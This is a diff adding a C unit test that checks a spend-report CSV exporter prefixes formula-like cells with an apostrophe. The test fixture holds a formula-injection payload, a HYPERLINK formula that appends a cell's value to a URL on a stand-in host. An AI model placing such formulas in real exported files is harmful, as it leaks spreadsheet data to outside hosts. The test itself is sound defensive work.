@@ -317,6 +317,34 @@ static void test_spend_render__focus_quotes_fields_as_rfc_4180_says(void **state
 	sr_fixture_free(r);
 }
 
+/*
+ * A name a spreadsheet would run as a formula (a record's use case from a
+ * usage log, say) gets a leading apostrophe; numbers, negative ones too, do
+ * not.
+ */
+static void test_spend_render__focus_defuses_formulas(void **state)
+{
+	static const char evil[] = "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")";
+	struct pc_spend_report *r = sr_fixture_new();
+	struct pc_buf out = PC_BUF_INIT;
+	struct csv csv;
+
+	(void)state;
+	r->charges[0].template = evil;
+	r->charges[1].template = "-summary";
+	r->charges[2].model = "@ops";
+	assert_int_equal(pc_spend_report_focus(&out, r), 0);
+	csv_parse(&csv, out.ptr);
+	assert_string_equal(csv_at(&csv, 1, "ResourceName"), "'=HYPERLINK(\"http://x.example/?\"&A1,\"open\")");
+	assert_string_equal(csv_at(&csv, 2, "ResourceName"), "'-summary");
+	assert_string_equal(csv_at(&csv, 3, "ServiceName"), "'@ops");
+	assert_null(strstr(out.ptr, ",=HYPERLINK"));
+	assert_null(strstr(out.ptr, ",\"=HYPERLINK"));
+	pc_strlist_release(&csv.fields);
+	pc_buf_release(&out);
+	sr_fixture_free(r);
+}
+
 /* Walks a JSON value: no number is a real; money and percentages are strings. */
 static void expect_no_reals(const json_t *v)
 {
@@ -471,6 +499,7 @@ int main(void)
 		cmocka_unit_test(test_spend_render__empty_report_matches_its_golden_files),
 		cmocka_unit_test(test_spend_render__focus_effective_cost_sums_to_the_total),
 		cmocka_unit_test(test_spend_render__focus_quotes_fields_as_rfc_4180_says),
+		cmocka_unit_test(test_spend_render__focus_defuses_formulas),
 		cmocka_unit_test(test_spend_render__json_money_and_percentages_are_strings),
 		cmocka_unit_test(test_spend_render__undefined_ratios_read_n_a),
 		cmocka_unit_test(test_spend_render__text_shows_control_characters_visibly),
